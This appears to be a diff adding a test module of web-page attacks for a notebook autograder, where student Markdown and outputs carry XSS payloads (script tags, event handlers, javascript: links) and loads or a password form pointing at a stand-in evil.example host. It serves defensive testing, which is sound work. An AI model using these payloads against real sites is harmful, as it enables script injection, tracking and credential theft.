@@ -1,0 +1,92 @@
+"""Attacks on who opens a page: the instructor in the formgrader, the student at the feedback."""
+
+from __future__ import annotations
+
+from tests.attacks.model import Attack, told
+
+_MUST = "Neither the autograded notebook nor the feedback has anything that runs or is fetched."
+_NOT_YET = "the autograded notebook keeps the HTML of Markdown cells as the student wrote it"
+
+
+def _page(name: str, tries: str, **more: object) -> Attack:
+    return Attack(name, "pages", tries, _MUST, **more)  # type: ignore[arg-type]
+
+
+def _shown(name: str, tries: str, data: str) -> Attack:
+    """An attack by an output."""
+    code = f"from IPython.display import display\ndisplay({data}, raw=True)"
+    return _page(name, tries, answers=told(code))
+
+
+def _written(name: str, tries: str, markdown: str) -> Attack:
+    """An attack by a Markdown cell."""
+    return _page(name, tries, markdown=markdown, known=_NOT_YET)
+
+
+PAGES = [
+    _written("script_in_markdown", "Writes a script.", "<script>alert(1)</script>"),
+    _written(
+        "handlers_in_markdown",
+        "Writes event handlers.",
+        "<img src=x onerror=alert(1)> <b onmouseover='alert(1)'>b</b>\n"
+        "<details open ontoggle=alert(1)>",
+    ),
+    _written(
+        "remote_loads_in_markdown",
+        "Loads pictures, fonts and frames from afar, which tells who looked and when.",
+        "![](http://evil.example/x.png) <img src='//evil.example/y.png'>\n"
+        "<link rel=stylesheet href=http://evil.example/z.css>",
+    ),
+    _written(
+        "frames_in_markdown",
+        "Embeds frames, objects and forms.",
+        "<iframe src='javascript:alert(1)'></iframe><object data='data:text/html,x'></object>\n"
+        "<form action=http://evil.example><input name=password></form>"
+        "<base href='http://evil.example/'>",
+    ),
+    _written(
+        "svg_in_markdown",
+        "Writes a drawing with a script.",
+        "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    ),
+    _written(
+        "style_in_markdown",
+        "Writes a style that hides the page and fetches a picture.",
+        "<style>body { display: none; background: url(http://evil.example/x.png) }</style>\n"
+        "<p style='position: fixed; inset: 0; background: url(//evil.example)'>x</p>",
+    ),
+    _written(
+        "script_links_in_markdown",
+        "Writes links that run scripts, in Markdown and in HTML.",
+        "[look](javascript:alert(1)) <a href='jAvAsCrIpT&colon;alert(1)'>x</a>\n"
+        "[more](data:text/html;base64,PHNjcmlwdD4=)",
+    ),
+    _written(
+        "refresh_in_markdown",
+        "Sends the reader to another page.",
+        "<meta http-equiv=refresh content='0; url=http://evil.example'>",
+    ),
+    _shown("html_output", "Displays HTML with a script.",
+           "{'text/html': '<script>alert(1)</script><img src=x onerror=alert(1)>'}"),
+    _shown("script_output", "Displays JavaScript.",
+           "{'application/javascript': 'alert(1)', 'text/plain': 'x'}"),
+    _shown("svg_output", "Displays a drawing with a script.",
+           "{'image/svg+xml': '<svg onload=alert(1)><script>alert(1)</script></svg>'}"),
+    _shown("markdown_output", "Displays Markdown with a script.",
+           "{'text/markdown': '<script>alert(1)</script>'}"),
+    _shown("latex_output", "Displays LaTeX with HTML in it.",
+           "{'text/latex': '$\\\\href{javascript:alert(1)}{x}$ <script>alert(1)</script>'}"),
+    _shown("widget_output", "Displays a widget's state with a script.",
+           "{'application/vnd.jupyter.widget-view+json': {'model_id': '<script></script>'}}"),
+    _shown("picture_that_closes_its_tag", "Displays a picture whose data close the tag.",
+           "{'image/png': 'AAAA\"><script>alert(1)</script><img src=\"'}"),
+    _page("html_in_printed_text", "Prints HTML and terminal links.",
+          answers=told("print('<script>alert(1)</script>')\n"
+                       "print('\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07')")),
+    _page("html_in_an_error", "Raises errors whose type and text are HTML.",
+          answers=told("E = type('<script>alert(1)</script>', (Exception,), {})\n"
+                       "def double(x):\n    raise E('<img src=x onerror=alert(1)>')\n"
+                       "raise E('<script>alert(1)</script>')")),
+    _page("html_in_the_code", "Writes code that closes the tag it is shown in.",
+          answers=told("x = '</code></pre></div><script>alert(1)</script>'")),
+]  # fmt: skip
